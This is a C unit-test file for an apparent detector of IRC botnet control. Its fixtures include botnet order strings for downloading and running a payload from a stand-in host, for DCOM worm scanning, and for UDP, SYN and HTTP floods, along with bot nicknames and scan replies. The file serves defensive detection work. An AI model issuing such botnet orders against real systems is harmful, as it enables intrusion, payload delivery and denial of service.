/* SPDX-License-Identifier: GPL-3.0-or-later */
/* irc_control: orders and their execution, several hosts on one server, controllers at home; and what is none of that.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "detect/detector.h"
#include "talk.h"

#define ORDER_DL   ":op!o@h PRIVMSG #x :.dl http://files.example/a/x.exe y.exe 1"
#define ORDER_SCAN ":op!o@h PRIVMSG #x :.advscan dcom135 100 5 0 -r"
#define ORDER_UDP  ":op!o@h PRIVMSG #x :.udp 198.51.100.4 10000 1024 10"

static void test_scan(void **state)
{
        const struct evidence *e;
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ORDER_SCAN);
        talk_wait(&t, 1000);
        talk_sweep(&t, "198.51", 6, 135);
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_sweep(&t, "198.52", 20, 135);
        e = talk_kind(&t, "irc_control.executed");
        assert_non_null(e);
        assert_int_equal(talk_number(e, "port"), 135);
        assert_true(talk_number(e, "targets") >= 8);
        assert_int_equal(talk_level(&t, t.host, NULL), LEVEL_BOT);
        talk_end(&t);
}

/* What was going on already was not ordered; nor is browsing a scan. */
static void test_scan_not_ordered(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_sweep(&t, "198.51", 60, 135);
        talk_in(&t, ORDER_SCAN);
        talk_sweep(&t, "198.52", 60, 135);
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_wait(&t, 1000);
        talk_sweep(&t, "198.53", 60, 443);
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);

        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ORDER_SCAN);
        talk_wait(&t, 130000);
        talk_sweep(&t, "198.52", 60, 135);
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);
}

static void test_range(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ":op!o@h TOPIC #x :* ipscan 220.77 dcom2 -s wormride");
        talk_wait(&t, 1000);
        talk_sweep(&t, "220.78", 14, 5000);
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_sweep(&t, "220.77", 14, 6000);
        assert_non_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);
}

/* Many peers on many ports, and much talk to the channel's bots, hide no scan. */
static void test_scan_in_noise(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ORDER_SCAN);
        talk_in(&t, ":op!o@h PRIVMSG #x :.udp 192.0.2.251 10000 1024 10");
        talk_in(&t, ":op!o@h PRIVMSG #x :.udp 192.0.2.252 10000 1024 10");
        talk_in(&t, ":op!o@h PRIVMSG #x :.udp 192.0.2.253 10000 1024 10");
        for (unsigned i = 0; i < 10; i++) {
                char line[100];

                snprintf(line, sizeof(line), ":carl!c@h PRIVMSG #x :!port 192.0.2.%u 80", i);
                talk_in(&t, line);
        }
        for (unsigned i = 0; i < 30; i++) {
                char to[ADDR_TEXT_MAX];

                for (unsigned k = 0; k < 20; k++) {
                        snprintf(to, sizeof(to), "192.0.2.%u", (i * 20 + k) % 250);
                        talk_flow(&t, to, (uint16_t) (20000 + i * 20 + k));
                }
                snprintf(to, sizeof(to), "198.51.100.%u", i);
                talk_flow(&t, to, 135);
                talk_wait(&t, 200);
        }
        assert_non_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);
}

/* From one address to another is a range. */
static void test_span(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ":op!o@h PRIVMSG #x :.scan 198.51.0.1 198.51.255.255 445 100");
        talk_wait(&t, 1000);
        talk_sweep(&t, "198.51", 14, 6000);
        assert_non_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);
}

static struct event rate(struct talk *t, const char *target, uint32_t out, uint32_t in)
{
        struct event e = {.time = t->now, .type = EVENT_RATE, .op = RATE_SECOND};

        e.rate.local = talk_addr(t->host);
        e.rate.target = talk_addr(target);
        e.rate.target_port = 80;
        e.rate.target_proto = IPPROTO_UDP;
        e.rate.pkts_out = e.rate.target_pkts = out;
        e.rate.pkts_in = in;
        return e;
}

static void test_flood(void **state)
{
        static const struct {
                const char *target;
                uint32_t out, in;
                bool flood;
        } rates[] = {{"198.51.100.4", 5000, 3, true},
                     {"198.51.100.4", 150, 0, false},     /* slow */
                     {"198.51.100.4", 5000, 4000, false}, /* a game, a call */
                     {"198.51.100.5", 5000, 3, false}};

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(rates); i++) {
                struct talk t;
                struct event e;

                talk_begin(&t);
                talk_login(&t, "alice", "#x");
                talk_in(&t, ORDER_UDP);
                talk_wait(&t, 3000);
                e = rate(&t, rates[i].target, rates[i].out, rates[i].in);
                analysis_event(t.analysis, &e);
                assert_int_equal(talk_kind(&t, "irc_control.executed") != NULL, rates[i].flood);
                talk_end(&t);
        }
}

/* A flood of requests is answered; a page is not that many. */
static void test_flood_of_requests(void **state)
{
        (void) state;
        for (uint32_t requests = 30; requests <= 300; requests += 270) {
                struct talk t;
                struct event e;

                talk_begin(&t);
                talk_login(&t, "alice", "#x");
                talk_in(&t, ":op!o@h PRIVMSG #x :!http 198.51.100.4 80 60 100");
                e = rate(&t, "198.51.100.4", 900, 900);
                e.rate.http_out = requests;
                analysis_event(t.analysis, &e);
                assert_int_equal(talk_kind(&t, "irc_control.executed") != NULL, requests == 300);
                talk_end(&t);
        }
}

/* The same from flows alone, as a log or a name tells them. */
static void test_flood_flows(void **state)
{
        struct talk t;
        struct event e;
        struct addr a;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ":op!o@h PRIVMSG #x :!ddos.syn shop.example 80 120 50");
        a = talk_addr("198.51.100.77");
        e = (struct event){.time = t.now, .type = EVENT_DNS, .op = DNS_ANSWER};
        e.dns.ends = talk_ends(&t, "10.1.6.1", 53, false);
        e.dns.name = talk_slice("shop.example");
        e.dns.addrs = &a;
        e.dns.n_addrs = 1;
        analysis_event(t.analysis, &e);
        talk_wait(&t, 1000);
        /* pages are read so as well: only what nobody answers counts */
        for (int i = 0; i < 400; i++)
                talk_flow(&t, "198.51.100.77", 80);
        assert_null(talk_kind(&t, "irc_control.executed"));
        for (int i = 0; i < 30; i++) {
                assert_null(talk_kind(&t, "irc_control.executed"));
                e = talk_flow_event(&t, FLOW_END, "198.51.100.77", 80);
                e.flow.state = FLOW_STATE_FAILED;
                analysis_event(t.analysis, &e);
        }
        assert_non_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);

        /* names are asked for of an ordered address that is a name server */
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ":op!o@h PRIVMSG #x :.udp 198.51.100.53 53 60 100");
        for (int i = 0; i < 1000; i++) {
                e = talk_flow_event(&t, FLOW_START, "198.51.100.53", 53);
                analysis_event(t.analysis, &e);
                e.op = FLOW_END;
                e.flow.state = FLOW_STATE_CLOSED;
                e.flow.pkts_in = 1;
                analysis_event(t.analysis, &e);
                talk_wait(&t, 20);
        }
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);

        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ORDER_UDP);
        e = talk_flow_event(&t, FLOW_UPDATE, "198.51.100.4", 9);
        talk_wait(&t, 5000);
        e.time = t.now;
        e.flow.pkts_out = 5000;
        analysis_event(t.analysis, &e);
        assert_non_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);
}

static void test_obeyed(void **state)
{
        struct talk t;
        const struct evidence *e;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ORDER_SCAN);
        talk_wait(&t, 40000);
        talk_out(&t, "PRIVMSG #x :[SCAN]: Random port scan started.");
        assert_null(talk_kind(&t, "irc_control.obeyed"));
        assert_non_null(talk_kind(&t, "irc_control.answer"));
        talk_in(&t, ORDER_DL);
        talk_wait(&t, 1500);
        /* also without a tag: it repeats what was ordered */
        talk_out(&t, "PRIVMSG #x :downloaded y.exe");
        e = talk_kind(&t, "irc_control.obeyed");
        assert_non_null(e);
        assert_int_equal(talk_level(&t, t.host, NULL), LEVEL_BOT);
        for (unsigned i = 0; i < e->n_facts; i++)
                if (e->facts[i].type == FACT_TEXT)
                        assert_null(strstr(e->facts[i].text, "downloaded"));
        talk_end(&t);
}

/* A bot's answer alone, an announcing bot of people's, on an odd port in a keyed channel: not even suspect. */
static void test_announcer(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        t.port = 31337;
        talk_login(&t, "builder", "#ci secret");
        for (int i = 0; i < 200; i++) {
                char line[120];

                snprintf(line, sizeof(line), "PRIVMSG #ci :[CI]: Build %d passed, http://ci.example/%d", i, i);
                talk_in(&t, ":alice!a@h PRIVMSG #ci :!build master");
                talk_wait(&t, 1000);
                talk_out(&t, line);
                talk_wait(&t, 600000);
        }
        assert_true(talk_level(&t, t.host, NULL) < LEVEL_SUSPECT);
        assert_null(talk_kind(&t, "irc_control.obeyed"));
        talk_end(&t);
}

static void test_enrolled(void **state)
{
        static const struct {
                const char *nick, *join;
                uint16_t port;
                bool bot;
        } cases[] = {{"[x]IqRkpiH", "#x", 6667, true},   {"JPN|425015894", "#x key", 21, true},
                     {"Guest48213", "#x key", 21, true}, {"Guest48213", "#x", 6667, false},
                     {"alice", "#x key", 21, false}, /* odd port, key and topic: friends may have that */
                     {"alice", "#x", 6667, false}};

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                char topic[200];
                struct talk t;

                talk_begin(&t);
                t.port = cases[i].port;
                talk_login(&t, cases[i].nick, cases[i].join);
                snprintf(topic, sizeof(topic), ":s 332 %s #x :.advscan dcom135 100 5 0 -r", cases[i].nick);
                talk_in(&t, topic);
                assert_int_equal(talk_level(&t, t.host, NULL) == LEVEL_BOT, cases[i].bot);
                talk_end(&t);
        }
}

static void test_explains(void **state)
{
        struct talk t;
        unsigned kinds = 0;
        const struct detector *d = detector_find("irc_control");

        (void) state;
        talk_begin(&t);
        t.port = 21;
        talk_login(&t, "JPN|425015894", "#x key");
        talk_in(&t, ":s 332 JPN|425015894 #x :.advscan dcom135 100 5 0 -r");
        talk_out(&t, "PRIVMSG #x :[SCAN]: started");
        talk_sweep(&t, "198.51", 30, 135);
        for (size_t i = 0; i < t.n; i++) {
                char story[4000];
                struct buf b = BUF_FIXED(story);

                d->explain(&t.last[i], &b);
                assert_true(b.len > 40 && story[b.len - 1] == '\n');
                assert_null(strstr(story, "unknown"));
        }
        /* nothing but the kind: it may come from a store of long ago */
        for (; kinds < d->n_kinds; kinds++) {
                struct evidence e = {.kind = &d->kinds[kinds]};
                char story[4000];
                struct buf b = BUF_FIXED(story);

                d->explain(&e, &b);
                assert_true(b.len > 10);
        }
        talk_end(&t);
}

/* Lines of any bytes and lengths, many sessions, many orders: bounded, and nobody is convicted. */
static void test_hostile(void **state)
{
        static const char *const begins[] = {
                ":a!b@c PRIVMSG #x :", "JOIN ", ":s 353 a = #x :", ":s 332 a #x :.", "NICK ",
                ":s 251 a :",          "",      ":s 001 ",         "PRIVMSG #x :",   ":s 322 a #x "};
        unsigned seed = 7;
        struct talk t;

        (void) state;
        talk_begin(&t);
        for (int i = 0; i < 30000; i++) {
                char line[600];
                size_t n = (size_t) snprintf(line, sizeof(line), "%s", begins[(size_t) rand_r(&seed) % 10]);
                size_t len = n + (size_t) rand_r(&seed) % (sizeof(line) - n);

                for (; n < len; n++)
                        line[n] = (char) rand_r(&seed);
                t.flow_id = (uint64_t) rand_r(&seed) % 9000;
                talk_raw(&t, i % 2, line, len);
                talk_wait(&t, 10);
        }
        assert_true(talk_level(&t, t.host, NULL) < LEVEL_BOT);
        talk_end(&t);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_scan),
                cmocka_unit_test(test_scan_not_ordered),
                cmocka_unit_test(test_range),
                cmocka_unit_test(test_flood),
                cmocka_unit_test(test_span),
                cmocka_unit_test(test_scan_in_noise),
                cmocka_unit_test(test_flood_of_requests),
                cmocka_unit_test(test_flood_flows),
                cmocka_unit_test(test_obeyed),
                cmocka_unit_test(test_announcer),
                cmocka_unit_test(test_enrolled),
                cmocka_unit_test(test_explains),
                cmocka_unit_test(test_hostile),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
